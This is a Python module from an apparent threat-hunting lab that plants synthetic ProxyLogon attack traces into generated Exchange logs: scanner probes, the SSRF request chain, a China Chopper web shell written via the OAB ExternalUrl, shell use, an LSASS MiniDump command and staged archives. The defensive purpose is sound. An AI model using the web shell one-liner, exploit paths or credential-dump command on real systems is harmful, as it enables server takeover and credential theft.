"""What each scenario adds on top of benign traffic: probes, the ProxyLogon chain, the OAB web
shell, its later use and post-exploitation traces.

Every line imitates a public real one (reference b1, b2, b4; helsecert incident; the nmap probe
line of signature-base PR #125). Attacker addresses come from the documentation ranges only.
"""

from __future__ import annotations

import io
import random
import zipfile
from dataclasses import dataclass
from datetime import UTC, datetime
from enum import StrEnum

from exhunt.lab import catalog
from exhunt.lab.evtx_writer import EventSpec
from exhunt.lab.formats import (
    CRLF,
    DAY_MS,
    HOUR_MS,
    Clock,
    csv_field,
    ecp_cmd,
    ecp_item,
    from_ms,
    guid,
    to_ms,
)
from exhunt.lab.lookalikes import FRONTEND_OWA_AUTH, management_event
from exhunt.lab.plan import (
    APPLICATION,
    W3WP,
    Injection,
    Plan,
    Planted,
    iis_fe_line,
    process_event,
    proxy_line,
)
from exhunt.lab.traffic import ECP_SERVER, IIS_FE, OAB_GEN, Site, doc_ips, hp

# Source: Microsoft/Volexity: HAFNIUM's mass exploitation was disclosed on 2021-03-02; the
# brief asks for first exploitation on both sides of 2021-03-03 depending on the seed.
FIRST_WAVE_MS = to_ms(datetime(2021, 3, 3, tzinfo=UTC))


class Scenario(StrEnum):
    CLEAN = "clean"
    PROBED = "probed"
    EXPLOITED = "exploited"
    BACKDOORED = "backdoored"
    REENTERED = "reentered"

    @property
    def rank(self) -> int:
        return list(Scenario).index(self)


@dataclass(frozen=True, slots=True)
class Attacker:
    """The choices one intrusion makes, all drawn from the seed."""

    ip: str
    js_stem: str  # e.g. /ecp/y.js
    anchor_user: str  # "a]" or "akak]"
    t_exploit: int
    shell_winpath: str
    shell_url: str
    param: str
    url_prefix: str  # http://f/ etc.
    in_frontend: bool


def _ssrf_anchor(site: Site, who: str, path: str) -> str:
    return f"ServerInfo~{who}@{site.fqdn}:444/{path}#"


def _js_stem(rng: random.Random) -> str:
    alnum = "abcdefghijklmnopqrstuvwxyz0123456789"
    return "/ecp/" + "".join(rng.choice(alnum) for _ in range(rng.randint(1, 3))) + ".js"


def _canary(rng: random.Random) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(76)) + "."


def pick_time(rng: random.Random, start_ms: int, end_ms: int) -> int:
    """When the exploitation happens: early in the window so later stages fit; before the
    first wave (2021-03-03) for some seeds, after it for others when the window allows."""
    span = end_ms - start_ms
    lo, hi = start_ms + span // 10, start_ms + span * 6 // 10
    latest = end_ms - 36 * HOUR_MS  # leaves time for the shell to be used afterwards
    if lo < FIRST_WAVE_MS < latest:
        if rng.random() < 0.5:
            hi = FIRST_WAVE_MS - HOUR_MS
        else:
            lo, hi = FIRST_WAVE_MS, latest
    return rng.randint(lo, max(lo, hi))


def choose_attacker(site: Site, rng: random.Random, start_ms: int, end_ms: int, live: bool,
                    taken: set[str]) -> Attacker:
    in_frontend = live or rng.random() < 0.4
    if in_frontend:
        name = rng.choice((*catalog.SHELL_NAMES_OWA_AUTH, "RANDOM"))
        sub = rng.choice(("", "", "Current\\themes\\resources\\"))
        winpath_dir, url_dir = FRONTEND_OWA_AUTH + sub, "/owa/auth/" + sub.replace("\\", "/")
    else:
        name = rng.choice((*catalog.SHELL_NAMES_ASPNET_CLIENT, "RANDOM"))
        sub = rng.choice(("", "", "system_web\\"))
        winpath_dir = catalog.INETPUB + "wwwroot\\aspnet_client\\" + sub
        url_dir = "/aspnet_client/" + sub.replace("\\", "/")
    if name == "RANDOM":
        letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        name = "".join(rng.choice(letters) for _ in range(rng.randint(6, 16))) + ".aspx"
    param_alphabet = "abcdefghijklmnopqrstuvwxyz0123456789"
    param = catalog.CHOPPER_PARAM_REAL if rng.random() < 0.2 else "".join(
        rng.choice(param_alphabet) for _ in range(rng.randint(3, 10)))
    return Attacker(
        ip=doc_ips(rng, 1, taken)[0], js_stem=_js_stem(rng),
        anchor_user=rng.choice(("a]", "a]", "akak]")), t_exploit=pick_time(rng, start_ms, end_ms),
        shell_winpath=winpath_dir + name, shell_url=url_dir + name, param=param,
        url_prefix=rng.choice(("http://f/", "http://f/", "http://o/#", "http://ooo/#")),
        in_frontend=in_frontend,
    )


def chopper_script(atk: Attacker) -> str:
    """The China Chopper one-liner as it sat in ExternalUrl (reference b2, helsecert)."""
    return (
        f'{atk.url_prefix}<script language="JScript" runat="server">function Page_Load()'
        f'{{eval(Request["{atk.param}"],"unsafe");}}</script>'
    )


def oab_dump(site: Site, atk: Attacker, when: datetime) -> bytes:
    """What the reset wrote to the shell's path: the OAB virtual directory's settings, in
    Format-List style, with the script in ExternalUrl. This module's own layout, carrying the
    properties public rules key on (reference: CISA AR21-084A rule, MSTIC rule)."""
    props = [
        ("RunspaceId", guid(random.Random(atk.param))),
        ("PollInterval", "480"),
        ("OfflineAddressBooks", ""),
        ("RequireSSL", "False"),
        ("BasicAuthentication", "False"),
        ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "True"),
        ("MetabasePath", f"IIS://{site.fqdn}/W3SVC/1/ROOT/OAB"),
        ("Path", catalog.EXCHANGE_ROOT + "FrontEnd\\HttpProxy\\OAB"),
        ("ExtendedProtectionTokenChecking", "None"),
        ("ExtendedProtectionFlags", "{}"),
        ("ExtendedProtectionSPNList", "{}"),
        ("AdminDisplayVersion", f"Version 15.1 (Build {'.'.join(site.build.split('.')[2:])})"),
        ("Server", site.host),
        ("InternalUrl", f"https://{site.fqdn.lower()}/OAB"),
        ("InternalAuthenticationMethods", "{WindowsIntegrated, OAuth}"),
        ("ExternalUrl", chopper_script(atk)),
        ("ExternalAuthenticationMethods", "{WindowsIntegrated, OAuth}"),
        ("AdminDisplayName", ""),
        ("ExchangeVersion", "0.10 (14.0.100.0)"),
        ("Name", "OAB (Default Web Site)"),
        ("DistinguishedName", f"CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={site.host},"
                              f"CN=Servers,CN=Exchange Administrative Group"),
        ("Identity", f"{site.host}\\OAB (Default Web Site)"),
        ("Guid", site.oab_vdir_guid),
        ("ObjectCategory", f"{site.ad_domain}/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"),
        ("ObjectClass", "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}"),
        ("WhenChanged", when.strftime("%m/%d/%Y %I:%M:%S %p")),
        ("WhenCreated", "1/14/2020 10:12:37 AM"),
        ("OriginatingServer", f"DC01.{site.ad_domain}"),
        ("IsValid", "True"),
        ("ObjectState", "Changed"),
    ]
    width = max(len(k) for k, _ in props) + 1
    text = CRLF.join(f"{k.ljust(width)}: {v}" for k, v in props) + CRLF
    return (CRLF + text + CRLF).encode()


def _chain_line(site: Site, clock: Clock, rng: random.Random, t: int, atk: Attacker,
                path: str, ua: str, status: int, url_host: str, rid: str) -> str:
    anchor = _ssrf_anchor(site, atk.anchor_user, path)
    return proxy_line(site, clock, rng, t, rng.randint(40, 900), {
        "RequestId": rid, "Protocol": "Ecp", "UrlHost": url_host, "UrlStem": atk.js_stem,
        "IsAuthenticated": "false", "AnchorMailbox": anchor, "UserAgent": ua,
        "ClientIpAddress": atk.ip, "HttpStatus": str(status), "BackEndStatus": str(status),
        "Method": "POST", "ProxyAction": "Proxy",
        "TargetServer": anchor.removeprefix("ServerInfo~"), "TargetServerVersion": site.log_version,
        "RoutingType": "CrossRegion", "RoutingHint": "X-BEResource-Cookie",
        "RequestBytes": str(rng.randint(200, 2000)), "ResponseBytes": str(rng.randint(100, 9000)),
    })


def _request(plan: Plan, site: Site, clock: Clock, rng: random.Random, t: int, atk: Attacker,
             path: str, ua: str, status: int, stage: str, what: str) -> None:
    """One SSRF request: HttpProxy Ecp line and the matching IIS front-end line."""
    url_host = site.mail_host if rng.random() < 0.7 else site.autodiscover_host
    rid = guid(rng)
    plan.injections.append(Injection(t, hp("Ecp"), _chain_line(
        site, clock, rng, t, atk, path, ua, status, url_host, rid)))
    plan.injections.append(Injection(t, IIS_FE, iis_fe_line(
        site, clock, rng, t, "POST", atk.js_stem, "", "", atk.ip, ua, status,
        rng.randint(40, 900), req_id=rid)))
    plan.mark(t, clock, stage, f"{what} ({status}) from {atk.ip}",
              f"HttpProxy/Ecp {_ssrf_anchor(site, atk.anchor_user, path)}; W3SVC1 POST "
              f"{atk.js_stem}")


def _ecp_request_line(site: Site, clock: Clock, rng: random.Random, t: int, cmd: str, url: str,
                      ex: str = "") -> Injection:
    items = [ecp_item("TIME", str(rng.randint(200, 5000))), ecp_item("SID", guid(rng)),
             ecp_item("CMD", cmd), "S:REQID=", ecp_item("URL", url), "S:REFERRER=",
             ecp_item("EX", ex), f"S:ACTID={guid(rng)}", "S:RS=0", f"S:BLD={site.build}",
             "S:TNAME=<null>", "S:TID=", f"S:USID={guid(rng)}", "S:EDOID=", "S:ACID="]
    line = f"{clock.iso(t)},{site.host},ECP.Request,{csv_field(';'.join(items))}{CRLF}"
    return Injection(t, ECP_SERVER, line)


def add_probes(site: Site, clock: Clock, rng: random.Random, start_ms: int, end_ms: int,
               plan: Plan, taken: set[str]) -> None:
    """Scans and failed attempts: nmap-NSE probes, SSRF that stops at autodiscover, failed
    ProxyShell. None of them succeeds."""
    scanners = doc_ips(rng, rng.randint(3, 7), taken)
    taken.update(scanners)
    plan.attacker_ips += scanners

    def when(after_disclosure: float = 0.7) -> int:
        # Mass scanning grew after the 2021-03-02 disclosure.
        if start_ms < FIRST_WAVE_MS < end_ms - 60_000 and rng.random() < after_disclosure:
            return rng.randint(FIRST_WAVE_MS - DAY_MS // 2, end_ms - 60_000)
        return rng.randint(start_ms, end_ms - 60_000)

    for _ in range(rng.randint(2, 6)):
        # Microsoft's nmap script appeared after the disclosure.
        t, ip = when(after_disclosure=1.0), rng.choice(scanners)
        rid = guid(rng)
        line = proxy_line(site, clock, rng, t, 382, {
            "RequestId": rid, "Protocol": "Owa", "UrlHost": site.mail_host,
            "UrlStem": "/owa/auth/x.js",
            "AuthenticationType": "FBA", "IsAuthenticated": "false",
            "AnchorMailbox": "ServerInfo~localhost/ecp/default.flt?",
            "UserAgent": catalog.NMAP_PROBE_UA, "ClientIpAddress": ip, "HttpStatus": "500",
            "BackEndStatus": "500", "Method": "GET", "ProxyAction": "Proxy",
            "TargetServer": "localhost", "TargetServerVersion": "0.00.0003.000",
            "RoutingType": "CrossRegion", "RoutingHint": "X-AnonResource-Backend-Cookie",
            "RequestBytes": "0", "ResponseBytes": "85", "TargetOutstandingRequests": "1",
            "BackendProcessingLatency": "239", "ProxyTime": "298", "CoreLatency": "131",
        })
        plan.injections.append(Injection(t, hp("Owa"), line))
        plan.injections.append(Injection(t, IIS_FE, iis_fe_line(
            site, clock, rng, t, "GET", "/owa/auth/x.js", "", "", ip, catalog.NMAP_PROBE_UA,
            500, 382, req_id=rid)))
        plan.mark(t, clock, "probe", f"nmap ProxyLogon probe from {ip}",
                  "HttpProxy/Owa ServerInfo~localhost/ecp/default.flt?; W3SVC1 GET /owa/auth/x.js")

    for _ in range(rng.randint(2, 8)):
        t, ip = when(), rng.choice(scanners)
        probe = Attacker(ip=ip, js_stem=_js_stem(rng), anchor_user="a]", t_exploit=t,
                         shell_winpath="", shell_url="", param="", url_prefix="",
                         in_frontend=False)
        _request(plan, site, clock, rng, t, probe, "autodiscover/autodiscover.xml?",
                 rng.choice(catalog.ATTACKER_UAS), rng.choice((401, 500)), "probe",
                 "failed SSRF attempt, autodiscover only")

    for _ in range(rng.randint(1, 5)):
        t, ip = when(), rng.choice(scanners)
        dom = rng.choice(("x.com", "foo.com", "a.a"))
        query = f"@{dom}/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@{dom}"
        ua = rng.choice(catalog.ATTACKER_UAS)
        plan.injections.append(Injection(t, IIS_FE, iis_fe_line(
            site, clock, rng, t, rng.choice(("GET", "POST")), "/autodiscover/autodiscover.json",
            query, "", ip, ua, 401, rng.randint(2, 30))))
        plan.mark(t, clock, "probe", f"failed ProxyShell attempt (401) from {ip}",
                  "W3SVC1 /autodiscover/autodiscover.json @.../mapi/nspi")


def add_exploit(site: Site, clock: Clock, rng: random.Random, plan: Plan, atk: Attacker,
                with_um_crash: bool) -> None:
    """The successful SSRF chain up to reading the OAB virtual directory (reference b1)."""
    t = atk.t_exploit
    plan.attacker_ips.append(atk.ip)
    plan.first_exploitation_ms = t
    _request(plan, site, clock, rng, t, atk, "autodiscover/autodiscover.xml?",
             "ExchangeServicesClient/0.0.0.0", 200, "exploit", "SSRF autodiscover.xml")
    t += rng.randint(1200, 2500)
    _request(plan, site, clock, rng, t, atk, "mapi/emsmdb/?", "python-requests/2.25.1", 200,
             "exploit", "SSRF mapi/emsmdb (SID leak)")
    t += rng.randint(2000, 4000)
    _request(plan, site, clock, rng, t, atk, "ecp/proxyLogon.ecp?", "python-requests/2.25.1",
             241, "exploit", "SSRF proxyLogon.ecp session")
    t += rng.randint(3000, 7000)
    canary = _canary(rng)
    get_path = (f"ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary={canary}"
                "&schema=OABVirtualDirectory")
    _request(plan, site, clock, rng, t, atk, get_path, "python-requests/2.25.1", 200, "exploit",
             "DDI GetObject OABVirtualDirectory")
    plan.injections.append(_ecp_request_line(
        site, clock, rng, t + 150,
        ecp_cmd("Get-OabVirtualDirectory", [("Identity", site.oab_vdir_guid)]),
        f"/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"
        f"&a=%5D:444{atk.js_stem}"))
    if with_um_crash:
        # After the SSRF chain, so first_exploitation stays the chain's first request.
        tc = atk.t_exploit + rng.randint(60_000, 1_800_000)
        plan.events.append(EventSpec(
            channel=APPLICATION, provider="MSExchange Unified Messaging", event_id=1010, level=2,
            time_created=from_ms(tc), computer=site.fqdn,
            data=["UM worker process", "An unhandled exception occurred while processing a "
                  "request: System.InvalidCastException: Unable to cast object of type "
                  "'System.Object' to type 'Microsoft.Exchange.UM.UMCommon.UMVoiceMailMessage'."],
        ))
        plan.mark(tc, clock, "exploit", "Unified Messaging error with System.InvalidCastException",
                  "Application.evtx")
    plan.notes.append(
        f"exploit chain from {atk.ip} via {atk.js_stem}, AnchorMailbox ServerInfo~"
        f"{atk.anchor_user}@{site.fqdn}:444/...; UM crash event: {with_um_crash}")


def add_backdoor(site: Site, clock: Clock, rng: random.Random, plan: Plan, atk: Attacker) -> None:
    """ExternalUrl set to China Chopper, the vdir reset writes its settings to the shell path."""
    t = atk.t_exploit + rng.randint(12_000, 20_000)
    canary = _canary(rng)
    set_path = (f"ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}"
                "&schema=OABVirtualDirectory")
    _request(plan, site, clock, rng, t, atk, set_path, "python-requests/2.25.1", 200, "backdoor",
             "DDI SetObject OABVirtualDirectory")
    script = chopper_script(atk)
    set_cmd = ecp_cmd("Set-OabVirtualDirectory", [("ExternalUrl", script),
                                                  ("Identity", site.oab_vdir_guid)])
    plan.injections.append(_ecp_request_line(
        site, clock, rng, t + 300, set_cmd,
        f"/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"
        f"&a=%5D:444{atk.js_stem}"))
    plan.events.append(management_event(
        site, t + 300, "Set-OabVirtualDirectory",
        f'-ExternalUrl "{script}" -Identity "{site.oab_vdir_guid}"', "Administrator"))
    plan.mark(t + 300, clock, "backdoor", "Set-OabVirtualDirectory ExternalUrl carries script",
              "ECP server log; MSExchange Management.evtx event 1")
    t += rng.randint(1500, 3500)
    reset_path = (f"ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary={canary}"
                  "&schema=ResetOABVirtualDirectory")
    _request(plan, site, clock, rng, t, atk, reset_path, "python-requests/2.25.1", 200, "backdoor",
             "DDI SetObject ResetOABVirtualDirectory")
    t_file = t + rng.randint(500, 1500)
    oab_line = (f"{clock.iso(t_file)},{rng.randint(8, 90)},Information,OABGenerator,"
                f"{csv_field(catalog.OAB_DOWNLOAD_FAILED.format(path=atk.shell_winpath))}{CRLF}")
    plan.injections.append(Injection(t_file, OAB_GEN, oab_line))
    plan.mark(t_file, clock, "backdoor", "OAB 'Download failed' names a path outside "
              "ClientAccess\\OAB", f"OABGeneratorLog: {atk.shell_winpath}")
    t += rng.randint(2000, 4000)
    ex = (f"Microsoft.Exchange.Data.Directory.ADNoSuchObjectException: The operation couldn't be "
          f"performed because object '{site.oab_vdir_guid}' couldn't be found on "
          f"'DC01.{site.ad_domain}'.")
    plan.injections.append(_ecp_request_line(
        site, clock, rng, t,
        ecp_cmd("Set-OabVirtualDirectory", [("ExternalUrl", None),
                                            ("Identity", site.oab_vdir_guid)]),
        f"/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary={canary}"
        f"&a=%5D:444{atk.js_stem}", ex))
    if rng.random() < 0.5:
        t += rng.randint(1500, 3000)
        plan.injections.append(_ecp_request_line(
            site, clock, rng, t,
            ecp_cmd("Remove-OABVirtualDirectory",
                    [("Force", "$true"), ("Identity", f"{site.host}\\OAB (Default Web Site)")]),
            "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory"))
        t += rng.randint(5000, 9000)
        plan.injections.append(_ecp_request_line(
            site, clock, rng, t,
            ecp_cmd("New-OABVirtualDirectory", [
                ("WebSiteName", "Default Web Site"), ("Server", site.host),
                ("Role", "ClientAccess"), ("InternalURL", f"https://{site.fqdn.lower()}/OAB"),
                ("Path", catalog.EXCHANGE_ROOT + "FrontEnd\\HttpProxy\\OAB")]),
            "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory"))
    plan.files.append(Planted(atk.shell_winpath, oab_dump(site, atk, from_ms(t_file)), t_file))
    plan.shell_winpaths.append(atk.shell_winpath)
    plan.notes.append(
        f"web shell {atk.shell_winpath} (URL {atk.shell_url}), China Chopper parameter "
        f"'{atk.param}', ExternalUrl prefix {atk.url_prefix}")


def add_reentry(site: Site, clock: Clock, rng: random.Random, plan: Plan, atk: Attacker,
                end_ms: int, taken: set[str]) -> None:
    """The shell is used: POSTs answered 200, then a credential dump and a staged archive."""
    extra = doc_ips(rng, rng.randint(1, 2), taken)
    taken.update(extra)
    plan.attacker_ips += extra
    ips = [atk.ip, *extra]
    first = atk.t_exploit + rng.randint(2 * HOUR_MS, 72 * HOUR_MS)
    first = min(first, end_ms - 6 * HOUR_MS)
    t = first
    for _ in range(rng.randint(4, 20)):
        ip = rng.choice(ips)
        ua = rng.choice((*catalog.ATTACKER_UAS, catalog.SHELL_BROWSER_UA, "antSword/v2.1"))
        rid = guid(rng)
        plan.injections.append(Injection(t, IIS_FE, iis_fe_line(
            site, clock, rng, t, "POST", atk.shell_url, "", "", ip, ua, 200,
            rng.randint(30, 900), exchange_vdir=atk.in_frontend, req_id=rid)))
        if atk.in_frontend:
            plan.injections.append(Injection(t, hp("Owa"), proxy_line(
                site, clock, rng, t, rng.randint(20, 700), {
                    "RequestId": rid, "Protocol": "Owa", "UrlHost": site.mail_host,
                    "UrlStem": atk.shell_url,
                    "IsAuthenticated": "false", "UserAgent": ua, "ClientIpAddress": ip,
                    "HttpStatus": "200", "Method": "POST",
                    "RequestBytes": str(rng.randint(40, 600)),
                    "ResponseBytes": str(rng.randint(20, 5000)),
                })))
        plan.mark(t, clock, "reentry", f"POST to web shell answered 200 from {ip}",
                  f"W3SVC1 POST {atk.shell_url}" + ("; HttpProxy/Owa" if atk.in_frontend else ""))
        t += rng.randint(2_000, 40 * 60_000)
        if t > end_ms - 60_000:
            break
    shell_dir = atk.shell_winpath.rsplit("\\", 1)[0]
    cmd = "C:\\Windows\\System32\\cmd.exe"
    recon = rng.choice(("whoami", "ipconfig", "cd", "net group \"domain admins\" /domain"))
    t_cmd = first + rng.randint(1_000, 30_000)
    plan.events.append(process_event(
        site, t_cmd, cmd, f'cmd /c cd /d "{shell_dir}"&{recon}&echo [S]&cd&echo [E]', W3WP,
        rng.randint(1000, 9000), rng.randint(1000, 9000)))
    plan.mark(t_cmd, clock, "post-exploitation", "China Chopper command from w3wp.exe",
              "Security.evtx 4688")
    t_dump = first + rng.randint(5 * 60_000, 20 * 60_000)
    lsass_pid = rng.randint(600, 900)
    plan.events.append(process_event(
        site, t_dump - 2_000, "C:\\Windows\\System32\\rundll32.exe",
        f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} "
        "C:\\Windows\\Temp\\lsass.dmp full", cmd, rng.randint(1000, 9000),
        rng.randint(1000, 9000)))
    dump = b"MDMP\x93\xa7\x00\x00" + bytes(rng.getrandbits(8) for _ in range(rng.randint(4096,
                                                                                     12288)))
    plan.files.append(Planted("C:\\Windows\\Temp\\lsass.dmp", dump, t_dump))
    plan.mark(t_dump, clock, "post-exploitation", "LSASS memory dump", "Windows/Temp/lsass.dmp")
    t_zip = t_dump + rng.randint(60_000, 15 * 60_000)
    if rng.random() < 0.6:
        dt = from_ms(t_zip)
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as zf:
            zf.writestr(zipfile.ZipInfo("lsass.dmp", date_time=(
                dt.year, dt.month, dt.day, dt.hour, dt.minute, dt.second // 2 * 2)), dump)
        plan.files.append(Planted("C:\\ProgramData\\it.zip", buf.getvalue(), t_zip))
        plan.mark(t_zip, clock, "post-exploitation", "staged archive", "ProgramData/it.zip")
    else:
        seven = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(rng.getrandbits(8) for _ in range(3000))
        plan.files.append(Planted("C:\\ProgramData\\pst\\out.7z", seven, t_zip))
        plan.mark(t_zip, clock, "post-exploitation", "staged 7z archive", "ProgramData/pst/out.7z")
    plan.notes.append(f"shell used from {', '.join(ips)} starting {clock.iso(first)}")


def scenario_plan(scenario: Scenario, site: Site, clock: Clock, rng: random.Random,
                  start_ms: int, end_ms: int, live: bool, taken: set[str]) -> Plan:
    plan = Plan()
    if scenario.rank >= Scenario.PROBED.rank:
        add_probes(site, clock, rng, start_ms, end_ms, plan, taken)
    if scenario.rank >= Scenario.EXPLOITED.rank:
        atk = choose_attacker(site, rng, start_ms, end_ms, live, taken)
        taken.add(atk.ip)
        add_exploit(site, clock, rng, plan, atk, with_um_crash=rng.random() < 0.5)
        if scenario.rank >= Scenario.BACKDOORED.rank:
            add_backdoor(site, clock, rng, plan, atk)
        if scenario.rank >= Scenario.REENTERED.rank:
            add_reentry(site, clock, rng, plan, atk, end_ms, taken)
    plan.attacker_ips = list(dict.fromkeys(plan.attacker_ips))
    return plan
